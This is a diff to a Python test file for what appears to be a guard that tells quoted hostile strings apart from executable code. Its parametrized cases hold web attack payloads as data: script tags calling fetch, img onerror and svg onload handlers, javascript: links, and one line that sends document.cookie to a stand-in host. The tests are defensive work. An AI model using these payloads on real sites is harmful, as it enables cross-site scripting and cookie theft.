@@ -33,9 +33,21 @@ def test_a_file_that_does_something(line):
     assert not only_cases("tests/test_guard.py", CASES + line)
 
 
-@pytest.mark.parametrize("line", ["BAD = \"<script>fetch('//x.example.net')</script>\"", "BAD = ['os.system(1)', r'eval(x)', b'exec(']  # isn't run"])
+@pytest.mark.parametrize("line", ["BAD = \"fetch('//x.example.net')\"", "BAD = ['os.system(1)', r'eval(x)', b'exec(']  # isn't run"])
 def test_what_a_quoted_text_says_is_not_done(line):
     assert only_cases("tests/test_guard.py", CASES + line) and not only_cases("tests/guard.test.js", CASES + line)
+
+
+@pytest.mark.parametrize("line", ["const BAD = '<script>fetch(\"https://x.example\")</script>'", "it.each([\"<img src=x onerror='fetch(1)'>\", `<svg onload=eval(1)>`])", "  ['tag', '<a href=\"javascript:eval(1)\">'],"])
+def test_markup_in_a_test_of_javascript_is_only_shown(line):
+    assert only_cases("tests/sanitize.test.ts", line) and not only_cases("src/sanitize.ts", line)
+
+
+@pytest.mark.parametrize("line", [
+    "/'<b/; fetch('https://x.example/' + document.cookie)", "const a = '<b>' + fetch(url) + '</b>'", "const a = `<b>${fetch(url)}</b>`", "const a = '<b>'; eval(a.slice(1))", "x='<a'.replace(/'/, fetch(u))", "<b title='x'>{fetch(u)}</b>",
+])
+def test_code_beside_markup_is_seen(line):
+    assert not only_cases("tests/sanitize.test.tsx", line)
 
 
 @pytest.mark.parametrize("line", [
